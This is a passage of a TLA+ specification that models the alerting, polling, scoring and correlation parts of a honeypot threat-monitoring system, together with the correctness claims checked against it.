(* in minutes.  A process_event call for a score of 76 or more awaits      *)
(* asyncio.gather over its channels and is suspended there, so that other  *)
(* calls run before it records its key; a call for a lower score has no    *)
(* suspension point (EmailChannel.send awaits nothing) and runs in one     *)
(* step.  The channels catch their own errors: a failed send prints and    *)
(* returns.                                                                *)
(***************************************************************************)
MaxClock == 5
MaxAlertCalls == 3

\* self.alert_window = timedelta(minutes=5)
AlertWindow == 5

\* the key is not in recent_alerts
Never == -1

Channels == {"email", "telegram", "slack"}

AlertIps == {"10.0.0.1", "10.0.0.2"}

AlertScores == {50, 51, 76, 90}

AlertEvents ==
    [src_ip : AlertIps, eventid : {"cowrie.login.success"},
     threat_score : AlertScores]

\* f"{src_ip}_{event.get('eventid')}"
AlertKey(event) == event.src_ip \o "_" \o event.eventid

AlertKeys == {AlertKey(e) : e \in AlertEvents}

NoAlerts == [k \in AlertKeys |-> Never]

\* (faulty variant) a key once recorded suppresses for ever
is_duplicate_ever(recent_alerts, now, alert_key) ==
    recent_alerts[alert_key] # Never

\* _is_duplicate, with datetime.utcnow() reading now
is_duplicate(recent_alerts, now, alert_key) ==
    /\ recent_alerts[alert_key] # Never
    /\ now - recent_alerts[alert_key] < AlertWindow

\* (faulty variant) the high route also posts to slack
RouteHighToAll(threat_score) ==
    IF threat_score >= 76 THEN {"email", "telegram", "slack"}
    ELSE IF threat_score >= 51 THEN {"email"}
    ELSE {}

\* the channels whose send() the if / elif of process_event reaches
Route(threat_score) ==
    IF threat_score >= 90 THEN {"email", "telegram", "slack"}
    ELSE IF threat_score >= 76 THEN {"email", "telegram"}
    ELSE IF threat_score >= 51 THEN {"email"}
    ELSE {}

\* _send_critical_alert and _send_high_alert await asyncio.gather
Suspends(threat_score) == threat_score >= 76

\* (faulty variant) the comparison is turned round: the young entries go
cleanup_keeps_old(recent_alerts, now) ==
    [k \in DOMAIN recent_alerts |->
        IF recent_alerts[k] # Never /\ recent_alerts[k] < now - AlertWindow
        THEN recent_alerts[k] ELSE Never]

\* cleanup_old_alerts: {k: v for k, v in recent_alerts.items() if v > cutoff}
cleanup_old_alerts(recent_alerts, now) ==
    [k \in DOMAIN recent_alerts |->
        IF recent_alerts[k] # Never /\ recent_alerts[k] > now - AlertWindow
        THEN recent_alerts[k] ELSE Never]

\* process_event run without interruption at time now: the new
\* recent_alerts and the channels whose send() was called
process_event(recent_alerts, now, event) ==
    IF is_duplicate(recent_alerts, now, AlertKey(event))
    THEN [recent_alerts |-> recent_alerts, suppressed |-> TRUE, channels |-> {}]
    ELSE [recent_alerts |-> [recent_alerts EXCEPT ![AlertKey(event)] = now],
          suppressed |-> FALSE,
          channels |-> Route(event.threat_score)]

CallIds == {1, 2}

NoCall == [pc |-> "idle"]

NoCalls == [c \in CallIds |-> NoCall]

\* the log before the first call: nothing began, returned, was recorded or
\* was delivered
NoLog ==
    [calls |-> 0,
     begun |-> [began |-> FALSE],
     last |-> [returned |-> FALSE],
     recorded_at |-> [k \in AlertKeys |-> Never],
     sent_at |-> [k \in AlertKeys |-> Never]]

\* the log after a call began
Begun(log, event) ==
    [log EXCEPT !.calls = @ + 1, !.begun = [began |-> TRUE, event |-> event]]

\* the log after a call returned: per key, recorded_at is when line 68 last
\* wrote the key and sent_at when a channel last delivered for it
Logged(log, event, suppressed, channels, failed, now) ==
    [log EXCEPT
        !.last = [returned |-> TRUE, event |-> event, suppressed |-> suppressed,
                  channels |-> channels, failed |-> failed],
        !.recorded_at = IF suppressed THEN @
                        ELSE [@ EXCEPT ![AlertKey(event)] = now],
        !.sent_at = IF channels \ failed = {} THEN @
                    ELSE [@ EXCEPT ![AlertKey(event)] = now]]

\* time passes
AlertClockTick ==
    /\ al_now < MaxClock
    /\ al_now' = al_now + 1
    /\ UNCHANGED <<al_recent, al_call, al_log, mt_vars, sc_vars, co_vars, cd_vars,
                   pr_vars, hs_vars, na_vars, mo_vars>>

\* process_event(event) up to its early return
ProcessDuplicate(c, event) ==
    /\ is_duplicate(al_recent, al_now, AlertKey(event))
    /\ al_log' = Logged(Begun(al_log, event), event, TRUE, {}, {}, al_now)
    /\ UNCHANGED <<al_now, al_recent, al_call>>

\* process_event(event) up to the await of asyncio.gather
ProcessSuspending(c, event) ==
    /\ ~is_duplicate(al_recent, al_now, AlertKey(event))
    /\ Suspends(event.threat_score)
    /\ al_call' = [al_call EXCEPT
                      ![c] = [pc |-> "sending", event |-> event]]
    /\ al_log' = Begun(al_log, event)
    /\ UNCHANGED <<al_now, al_recent>>

\* process_event(event) to its end for a score below 76: nothing is awaited
\* that suspends; smtplib blocks the loop while the clock goes on
ProcessThrough(c, event) ==
    /\ ~is_duplicate(al_recent, al_now, AlertKey(event))
    /\ ~Suspends(event.threat_score)
    /\ \E later \in {al_now, al_now + 1}, failed \in SUBSET Route(event.threat_score) :
          /\ later <= MaxClock
          /\ later # al_now => Route(event.threat_score) # {}
          /\ al_now' = later
          /\ al_recent' = [al_recent EXCEPT ![AlertKey(event)] = later]
          /\ al_log' = Logged(Begun(al_log, event), event, FALSE,
                              Route(event.threat_score), failed, later)
    /\ UNCHANGED al_call

\* a call of process_event
ProcessEvent(c) ==
    /\ al_call[c].pc = "idle"
    /\ al_log.calls < MaxAlertCalls
    /\ \E event \in AlertEvents :
          \/ ProcessDuplicate(c, event)
          \/ ProcessSuspending(c, event)
          \/ ProcessThrough(c, event)
    /\ UNCHANGED <<mt_vars, sc_vars, co_vars, cd_vars, pr_vars, hs_vars,
                   na_vars, mo_vars>>

\* asyncio.gather(..., return_exceptions=True) returns, at most one channel
\* having failed; the key is recorded with the time read then
SendsDone(c) ==
    /\ al_call[c].pc = "sending"
    /\ \E failed \in {{}} \cup {{ch} : ch \in Route(al_call[c].event.threat_score)} :
          /\ al_recent' = [al_recent EXCEPT ![AlertKey(al_call[c].event)] = al_now]
          /\ al_log' = Logged(al_log, al_call[c].event, FALSE,
                              Route(al_call[c].event.threat_score), failed, al_now)
    /\ al_call' = [al_call EXCEPT ![c] = NoCall]
    /\ UNCHANGED <<al_now, mt_vars, sc_vars, co_vars, cd_vars, pr_vars, hs_vars,
                   na_vars, mo_vars>>

\* alert_manager.cleanup_old_alerts()
CleanupOldAlerts ==
    /\ al_recent' = cleanup_old_alerts(al_recent, al_now)
    /\ UNCHANGED <<al_now, al_call, al_log, mt_vars, sc_vars, co_vars, cd_vars,
                   pr_vars, hs_vars, na_vars, mo_vars>>

(***************************************************************************)
(* alerting.monitor_threats.  An event carries in @timestamp the time the  *)
(* sensor saw it and becomes searchable some time after that; the store    *)
(* answers a poll with what is searchable then.  One step is one turn of   *)
(* the while loop: the search, process_event for each hit in order (the    *)
(* loop awaits each call before the next), the new last_check and the      *)
(* cleanup.                                                                *)
(***************************************************************************)
MaxStored == 3
MaxCount == 2

\* es.search(..., size=100)
MonitorPageSize == 100

\* {"range": {"threat_score": {"gte": 51}}}
MonitorMinScore == 51

StoredIds == 1..MaxStored

NoCounts == [id \in StoredIds |-> 0]

\* the _source of the event with this id, but for its @timestamp
MonitorSource(id) ==
    [src_ip |-> IF id % 2 = 1 THEN "10.0.0.1" ELSE "10.0.0.2",
     eventid |-> "cowrie.login.success",
     threat_score |-> <<90, 51, 50, 76>>[((id - 1) % 4) + 1]]

\* the events the query matches
Matching(store, last_check) ==
    {e \in store : /\ e.timestamp >= last_check
                   /\ MonitorSource(e.id).threat_score >= MonitorMinScore}

\* "sort": [{"@timestamp": {"order": "asc"}}]
Ascending(hits) ==
    \A i, j \in 1..Len(hits) : i < j => hits[i].timestamp <= hits[j].timestamp

\* the pages the search may answer with: events of one timestamp come in
\* any order
Pages(store, last_check) ==
    LET found == Matching(store, last_check)
        n == Cardinality(found)
    IN  {SubSeq(hits, 1, Min(n, MonitorPageSize)) :
            hits \in {h \in [1..n -> found] :
                         /\ \A i, j \in 1..n : i # j => h[i] # h[j]
                         /\ Ascending(h)}}

Bump(counts, id) == [counts EXCEPT ![id] = Min(@ + 1, MaxCount)]

\* for hit in hits: await alert_manager.process_event(hit["_source"])
RECURSIVE ProcessHits(_, _, _, _, _, _)
ProcessHits(hits, i, now, recent_alerts, passed, alerted) ==
    IF i > Len(hits)
    THEN [recent_alerts |-> recent_alerts, passed |-> passed, alerted |-> alerted]
    ELSE LET done == process_event(recent_alerts, now, MonitorSource(hits[i].id))
         IN  ProcessHits(hits, i + 1, now, done.recent_alerts,
                         Bump(passed, hits[i].id),
                         IF done.channels # {} THEN Bump(alerted, hits[i].id)
                         ELSE alerted)

\* the last hit's @timestamp, or utcnow() when there was no hit
NextCheck(hits, now) ==
    IF Len(hits) > 0 THEN hits[Len(hits)].timestamp ELSE now

\* time passes
MonitorClockTick ==
    /\ mo_now < MaxClock
    /\ mo_now' = mo_now + 1
    /\ UNCHANGED <<mo_pc, mo_store, mo_hidden, mo_last_check, mo_recent, mo_passed,
                   mo_alerted, mt_vars, sc_vars, co_vars, cd_vars, pr_vars,
                   hs_vars, na_vars, al_vars>>

\* a sensor sees an event and stamps it
Ingest(id) ==
    /\ \A e \in mo_store \cup mo_hidden : e.id # id
    /\ mo_hidden' = mo_hidden \cup {[id |-> id, timestamp |-> mo_now]}
    /\ UNCHANGED <<mo_now, mo_pc, mo_store, mo_last_check, mo_recent, mo_passed,
                   mo_alerted, mt_vars, sc_vars, co_vars, cd_vars, pr_vars,
                   hs_vars, na_vars, al_vars>>

\* the event becomes searchable
Index(id) ==
    /\ \E e \in mo_hidden :
          /\ e.id = id
          /\ mo_hidden' = mo_hidden \ {e}
          /\ mo_store' = mo_store \cup {e}
    /\ UNCHANGED <<mo_now, mo_pc, mo_last_check, mo_recent, mo_passed, mo_alerted,
                   mt_vars, sc_vars, co_vars, cd_vars, pr_vars, hs_vars,
                   na_vars, al_vars>>

\* one turn of the while loop of monitor_threats, up to its sleep
Poll ==
    /\ mo_pc = "polling"
    /\ mo_pc' = "sleeping"
    /\ \E hits \in Pages(mo_store, mo_last_check) :
          LET done == ProcessHits(hits, 1, mo_now, mo_recent, mo_passed, mo_alerted)
          IN  /\ mo_recent' = cleanup_old_alerts(done.recent_alerts, mo_now)
              /\ mo_passed' = done.passed
              /\ mo_alerted' = done.alerted
              /\ mo_last_check' = NextCheck(hits, mo_now)
    /\ UNCHANGED <<mo_now, mo_store, mo_hidden, mt_vars, sc_vars, co_vars,
                   cd_vars, pr_vars, hs_vars, na_vars, al_vars>>

\* await asyncio.sleep(30) returns
Wake ==
    /\ mo_pc = "sleeping"
    /\ mo_pc' = "polling"
    /\ UNCHANGED <<mo_now, mo_store, mo_hidden, mo_last_check, mo_recent,
                   mo_passed, mo_alerted, mt_vars, sc_vars, co_vars, cd_vars,
                   pr_vars, hs_vars, na_vars, al_vars>>

(***************************************************************************)
(* Specifications: one per component, the other components idle            *)
(***************************************************************************)
MitreInit ==
    /\ mt_events \in SeqsUpTo(ChainUniverse, MaxChainEvents)
                     \cup {<<e>> : e \in MapUniverse}
    /\ mt_pc = "ready"
    /\ mt_mapped = EmptyMapping
    /\ mt_chain = <<>>
    /\ sc_event = NoEvent
    /\ sc_pc = "idle"
    /\ sc_result = NoResult
    /\ co_store = NoStore
    /\ co_pc = "idle"
    /\ co_task = NoTasks
    /\ co_results = NoResults
    /\ co_failed = NoFailures
    /\ co_order = <<>>
    /\ co_result = NoCorrelation
    /\ cd_active = 0
    /\ cd_stale = 0
    /\ cd_pc = "idle"
    /\ cd_found = <<>>
    /\ pr_store = NoStore
    /\ pr_failed = {}
    /\ pr_pc = "idle"
    /\ pr_profile = NoProfile
    /\ hs_pc = "idle"
    /\ hs_calls = <<>>
    /\ hs_mapped = EmptyMapping
    /\ hs_breakdown = NewBreakdown
    /\ na_chain = <<>>
    /\ na_pc = "idle"
    /\ na_narrative = ""
    /\ al_now = 0
    /\ al_recent = NoAlerts
    /\ al_call = NoCalls
    /\ al_log = <<>>
    /\ mo_now = 0
    /\ mo_pc = "idle"
    /\ mo_store = {}
    /\ mo_hidden = {}
    /\ mo_last_check = 0
    /\ mo_recent = NoAlerts
    /\ mo_passed = NoCounts
    /\ mo_alerted = NoCounts

MitreNext == MapEvent \/ GetAttackChain

SpecMitre == MitreInit /\ [][MitreNext]_vars

ScoreInit ==
    /\ sc_event \in ScoreEvents
    /\ sc_pc = "ready"
    /\ sc_result = NoResult
    /\ mt_events = <<>>
    /\ mt_pc = "idle"
    /\ mt_mapped = EmptyMapping
    /\ mt_chain = <<>>
    /\ co_store = NoStore
    /\ co_pc = "idle"
    /\ co_task = NoTasks
    /\ co_results = NoResults
    /\ co_failed = NoFailures
    /\ co_order = <<>>
    /\ co_result = NoCorrelation
    /\ cd_active = 0
    /\ cd_stale = 0
    /\ cd_pc = "idle"
    /\ cd_found = <<>>
    /\ pr_store = NoStore
    /\ pr_failed = {}
    /\ pr_pc = "idle"
    /\ pr_profile = NoProfile
    /\ hs_pc = "idle"
    /\ hs_calls = <<>>
    /\ hs_mapped = EmptyMapping
    /\ hs_breakdown = NewBreakdown
    /\ na_chain = <<>>
    /\ na_pc = "idle"
    /\ na_narrative = ""
    /\ al_now = 0
    /\ al_recent = NoAlerts
    /\ al_call = NoCalls
    /\ al_log = <<>>
    /\ mo_now = 0
    /\ mo_pc = "idle"
    /\ mo_store = {}
    /\ mo_hidden = {}
    /\ mo_last_check = 0
    /\ mo_recent = NoAlerts
    /\ mo_passed = NoCounts
    /\ mo_alerted = NoCounts

ScoreNext == CalculateScore

SpecScore == ScoreInit /\ [][ScoreNext]_vars

CorrInit ==
    /\ co_store \in Stores
    /\ co_pc = "ready"
    /\ co_task = NoTasks
    /\ co_results = NoResults
    /\ co_failed = NoFailures
    /\ co_order = <<>>
    /\ co_result = NoCorrelation
    /\ mt_events = <<>>
    /\ mt_pc = "idle"
    /\ mt_mapped = EmptyMapping
    /\ mt_chain = <<>>
    /\ sc_event = NoEvent
    /\ sc_pc = "idle"
    /\ sc_result = NoResult
    /\ cd_active = 0
    /\ cd_stale = 0
    /\ cd_pc = "idle"
    /\ cd_found = <<>>
    /\ pr_store = NoStore
    /\ pr_failed = {}
    /\ pr_pc = "idle"
    /\ pr_profile = NoProfile
    /\ hs_pc = "idle"
    /\ hs_calls = <<>>
    /\ hs_mapped = EmptyMapping
    /\ hs_breakdown = NewBreakdown
    /\ na_chain = <<>>
    /\ na_pc = "idle"
    /\ na_narrative = ""
    /\ al_now = 0
    /\ al_recent = NoAlerts
    /\ al_call = NoCalls
    /\ al_log = <<>>
    /\ mo_now = 0
    /\ mo_pc = "idle"
    /\ mo_store = {}
    /\ mo_hidden = {}
    /\ mo_last_check = 0
    /\ mo_recent = NoAlerts
    /\ mo_passed = NoCounts
    /\ mo_alerted = NoCounts

CorrNext ==
    \/ CorrelateByIp
    \/ \E source \in SourceSet : StartQuery(source)
    \/ \E source \in SourceSet : CompleteQuery(source)
    \/ BuildCorrelation

SpecCorr == CorrInit /\ [][CorrNext]_vars

CoordInit ==
    /\ cd_active \in 0..MaxIps
    /\ cd_stale \in 0..MaxStale
    /\ cd_pc = "ready"
    /\ cd_found = <<>>
    /\ mt_events = <<>>
    /\ mt_pc = "idle"
    /\ mt_mapped = EmptyMapping
    /\ mt_chain = <<>>
    /\ sc_event = NoEvent
    /\ sc_pc = "idle"
    /\ sc_result = NoResult
    /\ co_store = NoStore
    /\ co_pc = "idle"
    /\ co_task = NoTasks
    /\ co_results = NoResults
    /\ co_failed = NoFailures
    /\ co_order = <<>>
    /\ co_result = NoCorrelation
    /\ pr_store = NoStore
    /\ pr_failed = {}
    /\ pr_pc = "idle"
    /\ pr_profile = NoProfile
    /\ hs_pc = "idle"
    /\ hs_calls = <<>>
    /\ hs_mapped = EmptyMapping
    /\ hs_breakdown = NewBreakdown
    /\ na_chain = <<>>
    /\ na_pc = "idle"
    /\ na_narrative = ""
    /\ al_now = 0
    /\ al_recent = NoAlerts
    /\ al_call = NoCalls
    /\ al_log = <<>>
    /\ mo_now = 0
    /\ mo_pc = "idle"
    /\ mo_store = {}
    /\ mo_hidden = {}
    /\ mo_last_check = 0
    /\ mo_recent = NoAlerts
    /\ mo_passed = NoCounts
    /\ mo_alerted = NoCounts

CoordNext == DetectCoordinatedAttacks \/ DetectSearchFails

SpecCoord == CoordInit /\ [][CoordNext]_vars

ProfileInit ==
    /\ pr_store \in ProfileStores
    /\ pr_failed = {}
    /\ pr_pc = "ready"
    /\ pr_profile = NoProfile
    /\ mt_events = <<>>
    /\ mt_pc = "idle"
    /\ mt_mapped = EmptyMapping
    /\ mt_chain = <<>>
    /\ sc_event = NoEvent
    /\ sc_pc = "idle"
    /\ sc_result = NoResult
    /\ co_store = NoStore
    /\ co_pc = "idle"
    /\ co_task = NoTasks
    /\ co_results = NoResults
    /\ co_failed = NoFailures
    /\ co_order = <<>>
    /\ co_result = NoCorrelation
    /\ cd_active = 0
    /\ cd_stale = 0
    /\ cd_pc = "idle"
    /\ cd_found = <<>>
    /\ hs_pc = "idle"
    /\ hs_calls = <<>>
    /\ hs_mapped = EmptyMapping
    /\ hs_breakdown = NewBreakdown
    /\ na_chain = <<>>
    /\ na_pc = "idle"
    /\ na_narrative = ""
    /\ al_now = 0
    /\ al_recent = NoAlerts
    /\ al_call = NoCalls
    /\ al_log = <<>>
    /\ mo_now = 0
    /\ mo_pc = "idle"
    /\ mo_store = {}
    /\ mo_hidden = {}
    /\ mo_last_check = 0
    /\ mo_recent = NoAlerts
    /\ mo_passed = NoCounts
    /\ mo_alerted = NoCounts

ProfileNext == BuildAttackerProfile

SpecProfile == ProfileInit /\ [][ProfileNext]_vars

CallsInit ==
    /\ hs_pc = "serving"
    /\ hs_calls = <<>>
    /\ hs_mapped = EmptyMapping
    /\ hs_breakdown = NewBreakdown
    /\ mt_events = <<>>
    /\ mt_pc = "idle"
    /\ mt_mapped = EmptyMapping
    /\ mt_chain = <<>>
    /\ sc_event = NoEvent
    /\ sc_pc = "idle"
    /\ sc_result = NoResult
    /\ co_store = NoStore
    /\ co_pc = "idle"
    /\ co_task = NoTasks
    /\ co_results = NoResults
    /\ co_failed = NoFailures
    /\ co_order = <<>>
    /\ co_result = NoCorrelation
    /\ cd_active = 0
    /\ cd_stale = 0
    /\ cd_pc = "idle"
    /\ cd_found = <<>>
    /\ pr_store = NoStore
    /\ pr_failed = {}
    /\ pr_pc = "idle"
    /\ pr_profile = NoProfile
    /\ na_chain = <<>>
    /\ na_pc = "idle"
    /\ na_narrative = ""
    /\ al_now = 0
    /\ al_recent = NoAlerts
    /\ al_call = NoCalls
    /\ al_log = <<>>
    /\ mo_now = 0
    /\ mo_pc = "idle"
    /\ mo_store = {}
    /\ mo_hidden = {}
    /\ mo_last_check = 0
    /\ mo_recent = NoAlerts
    /\ mo_passed = NoCounts
    /\ mo_alerted = NoCounts

CallsNext == ServeCalculateScore \/ ServeMapEvent

SpecCalls == CallsInit /\ [][CallsNext]_vars

\* generate_attack_narrative over every chain of at most MaxSteps steps
NarrativeInit ==
    /\ na_chain \in SeqsUpTo(NarrativeSteps, MaxSteps)
    /\ na_pc = "ready"
    /\ na_narrative = ""
    /\ hs_pc = "idle"
    /\ hs_calls = <<>>
    /\ hs_mapped = EmptyMapping
    /\ hs_breakdown = NewBreakdown
    /\ mt_events = <<>>
    /\ mt_pc = "idle"
    /\ mt_mapped = EmptyMapping
    /\ mt_chain = <<>>
    /\ sc_event = NoEvent
    /\ sc_pc = "idle"
    /\ sc_result = NoResult
    /\ co_store = NoStore
    /\ co_pc = "idle"
    /\ co_task = NoTasks
    /\ co_results = NoResults
    /\ co_failed = NoFailures
    /\ co_order = <<>>
    /\ co_result = NoCorrelation
    /\ cd_active = 0
    /\ cd_stale = 0
    /\ cd_pc = "idle"
    /\ cd_found = <<>>
    /\ pr_store = NoStore
    /\ pr_failed = {}
    /\ pr_pc = "idle"
    /\ pr_profile = NoProfile
    /\ al_now = 0
    /\ al_recent = NoAlerts
    /\ al_call = NoCalls
    /\ al_log = <<>>
    /\ mo_now = 0
    /\ mo_pc = "idle"
    /\ mo_store = {}
    /\ mo_hidden = {}
    /\ mo_last_check = 0
    /\ mo_recent = NoAlerts
    /\ mo_passed = NoCounts
    /\ mo_alerted = NoCounts

NarrativeNext == GenerateAttackNarrative

SpecNarrative == NarrativeInit /\ [][NarrativeNext]_vars

\* an AlertManager after __init__, its process_event called by up to two
\* tasks at a time
AlertsInit ==
    /\ al_now = 0
    /\ al_recent = NoAlerts
    /\ al_call = NoCalls
    /\ al_log = NoLog
    /\ hs_pc = "idle"
    /\ hs_calls = <<>>
    /\ hs_mapped = EmptyMapping
    /\ hs_breakdown = NewBreakdown
    /\ mt_events = <<>>
    /\ mt_pc = "idle"
    /\ mt_mapped = EmptyMapping
    /\ mt_chain = <<>>
    /\ sc_event = NoEvent
    /\ sc_pc = "idle"
    /\ sc_result = NoResult
    /\ co_store = NoStore
    /\ co_pc = "idle"
    /\ co_task = NoTasks
    /\ co_results = NoResults
    /\ co_failed = NoFailures
    /\ co_order = <<>>
    /\ co_result = NoCorrelation
    /\ cd_active = 0
    /\ cd_stale = 0
    /\ cd_pc = "idle"
    /\ cd_found = <<>>
    /\ pr_store = NoStore
    /\ pr_failed = {}
    /\ pr_pc = "idle"
    /\ pr_profile = NoProfile
    /\ na_chain = <<>>
    /\ na_pc = "idle"
    /\ na_narrative = ""
    /\ mo_now = 0
    /\ mo_pc = "idle"
    /\ mo_store = {}
    /\ mo_hidden = {}
    /\ mo_last_check = 0
    /\ mo_recent = NoAlerts
    /\ mo_passed = NoCounts
    /\ mo_alerted = NoCounts

AlertsNext ==
    \/ AlertClockTick
    \/ \E c \in CallIds : ProcessEvent(c)
    \/ \E c \in CallIds : SendsDone(c)
    \/ CleanupOldAlerts

SpecAlerts == AlertsInit /\ [][AlertsNext]_vars

\* monitor_threats after last_check = datetime.utcnow()
MonitorInit ==
    /\ mo_now = 0
    /\ mo_pc = "polling"
    /\ mo_store = {}
    /\ mo_hidden = {}
    /\ mo_last_check = 0
    /\ mo_recent = NoAlerts
    /\ mo_passed = NoCounts
    /\ mo_alerted = NoCounts
    /\ hs_pc = "idle"
    /\ hs_calls = <<>>
    /\ hs_mapped = EmptyMapping
    /\ hs_breakdown = NewBreakdown
    /\ mt_events = <<>>
    /\ mt_pc = "idle"
    /\ mt_mapped = EmptyMapping
    /\ mt_chain = <<>>
    /\ sc_event = NoEvent
    /\ sc_pc = "idle"
    /\ sc_result = NoResult
    /\ co_store = NoStore
    /\ co_pc = "idle"
    /\ co_task = NoTasks
    /\ co_results = NoResults
    /\ co_failed = NoFailures
    /\ co_order = <<>>
    /\ co_result = NoCorrelation
    /\ cd_active = 0
    /\ cd_stale = 0
    /\ cd_pc = "idle"
    /\ cd_found = <<>>
    /\ pr_store = NoStore
    /\ pr_failed = {}
    /\ pr_pc = "idle"
    /\ pr_profile = NoProfile
    /\ na_chain = <<>>
    /\ na_pc = "idle"
    /\ na_narrative = ""
    /\ al_now = 0
    /\ al_recent = NoAlerts
    /\ al_call = NoCalls
    /\ al_log = <<>>

MonitorNext ==
    \/ MonitorClockTick
    \/ \E id \in StoredIds : Ingest(id)
    \/ \E id \in StoredIds : Index(id)
    \/ Poll
    \/ Wake

SpecMonitor == MonitorInit /\ [][MonitorNext]_vars

\* the loop of monitor_threats never ends: a poll that is due is made and
\* asyncio.sleep(30) returns; an event written is indexed
SpecMonitorFair ==
    /\ MonitorInit
    /\ [][MonitorNext]_vars
    /\ WF_vars(Poll)
    /\ WF_vars(Wake)
    /\ \A id \in StoredIds : WF_vars(Index(id))

(***************************************************************************)
(* Claims on the scoring engine                                            *)
(***************************************************************************)
Scored == sc_pc = "done"

\* the six sub-scores combined, before int() and the cap, in tenths
CombinedX10(b) ==
    (b.attack_type_score + b.sophistication_score) * b.success_multiplier_x10
    + 10 * (b.ip_reputation_score + b.geo_risk_score + b.temporal_score)

\* C1: the final_score (threat_score) calculate_score returns is an integer
\* between 0 and 100, whatever the event carries.
C1_ScoreWithinBounds ==
    Scored =>
        /\ sc_result.threat_score \in 0..100
        /\ sc_result.breakdown.final_score = sc_result.threat_score

\* an event whose sub-scores add up to more than 100
C1_Witness ==
    /\ Scored
    /\ CombinedX10(sc_result.breakdown) > 1000
    /\ sc_result.threat_score = 100

\* Python's round() of a value given in tenths: to the nearest integer, a
\* fraction of one half going to the even neighbour
RoundX10(v) ==
    LET q == v \div 10
        r == v % 10
    IN  IF r < 5 THEN q
        ELSE IF r > 5 THEN q + 1
        ELSE IF q % 2 = 0 THEN q ELSE q + 1

Clamp(lo, hi, x) == IF x < lo THEN lo ELSE IF x > hi THEN hi ELSE x

\* C2 as stated: final_score = clamp(0, 100, round((attack_type_score +
\* sophistication_score) * success_multiplier + ip_reputation_score +
\* geo_risk_score + temporal_score)), also when the base ends in one half.
C2_AsClaimed ==
    Scored =>
        sc_result.breakdown.final_score
            = Clamp(0, 100, RoundX10(CombinedX10(sc_result.breakdown)))

\* C2 amended: final_score = min(100, floor((attack_type_score +
\* sophistication_score) * success_multiplier + ip_reputation_score +
\* geo_risk_score + temporal_score)): a fraction of one half is dropped, not
\* rounded.
C2_FinalScoreTruncates ==
    Scored =>
        /\ sc_result.breakdown.final_score
               = Clamp(0, 100, CombinedX10(sc_result.breakdown) \div 10)
        /\ sc_result.threat_score = sc_result.breakdown.final_score

\* a multiplied base that ends in one half, below the cap
C2_Witness ==
    /\ Scored
    /\ CombinedX10(sc_result.breakdown) % 10 = 5
    /\ sc_result.breakdown.success_multiplier_x10 = 15
    /\ sc_result.threat_score < 100

SeverityRank(severity) ==
    CASE severity = "low" -> 0
      [] severity = "medium" -> 1
      [] severity = "high" -> 2
      [] severity = "critical" -> 3

\* the label the thresholds give a score
SeverityOf(s) ==
    IF s < 26 THEN "low"
    ELSE IF s <= 50 THEN "medium"
    ELSE IF s <= 75 THEN "high"
    ELSE "critical"

\* C3: the severity label is a function of final_score alone (low below 26,
\* medium 26..50, high 51..75, critical from 76) and is monotonic: no lower
\* score has a higher label, no higher score a lower one.
C3_SeverityByThresholds ==
    Scored =>
        LET s == sc_result.threat_score IN
        /\ sc_result.severity = SeverityOf(s)
        /\ \A t \in 0..100 : score_to_severity(t) = SeverityOf(t)
        /\ \A t \in 0..100 :
               /\ t <= s => SeverityRank(score_to_severity(t)) <= SeverityRank(sc_result.severity)
               /\ t >= s => SeverityRank(score_to_severity(t)) >= SeverityRank(sc_result.severity)

\* a score that is the last one of its label
C3_Witness == Scored /\ sc_result.threat_score = 75 /\ sc_result.severity = "high"

(***************************************************************************)
(* Claims on the correlation engine                                        *)
(***************************************************************************)
CorrelationEnded == co_pc \in {"returned", "raised"}

FailedSources == {s \in SourceSet : co_failed[s]}

\* what the query of one source handed back
Response(source) ==
    IF co_failed[source] THEN <<>> ELSE QueryHits(co_store[source])

\* C4 as stated: with exactly one failing source query correlate_by_ip still
\* returns; the failed source contributes an empty list, the other two carry
\* what their queries returned, and total_events is the sum of the three list
\* lengths, for any combination of failing sources.
C4_AsClaimed ==
    /\ (CorrelationEnded /\ Cardinality(FailedSources) = 1) =>
          /\ co_pc = "returned"
          /\ \A s \in SourceSet : co_result.events[s] = Response(s)
    /\ co_pc = "returned" =>
          co_result.summary.total_events
              = co_result.summary.cowrie_events
                + co_result.summary.dionaea_events
                + co_result.summary.snort_alerts

\* a query that was issued ends only when no query is left to start
FanOutStep ==
    \A s \in SourceSet :
        (co_task[s] = "waiting" /\ co_task'[s] = "done") =>
            \A t \in SourceSet : co_task[t] # "scheduled"

\* the call goes on only when the three queries have ended
FanIn == CorrelationEnded => \A s \in SourceSet : co_task[s] = "done"

\* the result is the one built from each source's own answer: nothing in it
\* depends on co_order
OwnSourceKey ==
    co_pc = "returned" =>
        /\ \A s \in SourceSet : co_result.events[s] = Response(s)
        /\ co_result = Correlation(Response("cowrie"), Response("dionaea"),
                                   Response("snort"))

\* C5: the three queries are all started before any of them is waited on to
\* completion, the result is built only after all three completed, and for
\* every completion order the result is the same, each query's events under
\* its own source key.
C5_FanOutFanIn == [][FanOutStep]_vars /\ [](FanIn /\ OwnSourceKey)

\* the last query of gather ends first, with events, and the first one has
\* events too
C5_Witness ==
    /\ co_pc = "returned"
    /\ FailedSources = {}
    /\ co_order = <<"snort", "dionaea", "cowrie">>
    /\ co_result.events.snort # <<>>
    /\ co_result.events.cowrie # <<>>

AllEvents ==
    co_result.events.cowrie \o co_result.events.dionaea \o co_result.events.snort

MarkersOf(phase) ==
    {i \in 1..Len(AllEvents) : InSeq(phase, PhasesOf(AllEvents[i]))}

\* the sort key of the earliest event that marks the phase
EarliestMarker(phase) ==
    LET keys == {TsKey(AllEvents[i]) : i \in MarkersOf(phase)}
    IN  CHOOSE k \in keys : \A j \in keys : k <= j

\* C9: attack_phases holds each phase name at most once, and a phase whose
\* earliest marker event is strictly earlier than another phase's earliest
\* marker event is listed before it, whatever sources the events came from.
C9_PhasesFirstObserved ==
    co_pc = "returned" =>
        LET phases == co_result.summary.attack_phases IN
        /\ \A i, j \in 1..Len(phases) : phases[i] = phases[j] => i = j
        /\ \A i \in 1..Len(phases) : MarkersOf(phases[i]) # {}
        /\ \A i \in 1..Len(AllEvents) :
              \A k \in 1..Len(PhasesOf(AllEvents[i])) :
                  InSeq(PhasesOf(AllEvents[i])[k], phases)
        /\ \A i, j \in 1..Len(phases) :
              EarliestMarker(phases[i]) < EarliestMarker(phases[j]) => i < j

\* a download seen by dionaea before cowrie's login: the later list's phase
\* comes first
C9_Witness ==
    /\ co_pc = "returned"
    /\ co_result.events.cowrie # <<>>
    /\ co_result.events.dionaea # <<>>
    /\ co_result.summary.attack_phases = <<"Installation", "Exploitation">>

\* C10 as stated: one multiple_sources finding of confidence medium whose
\* ip_count is the number of distinct source IPs active in the window whenever
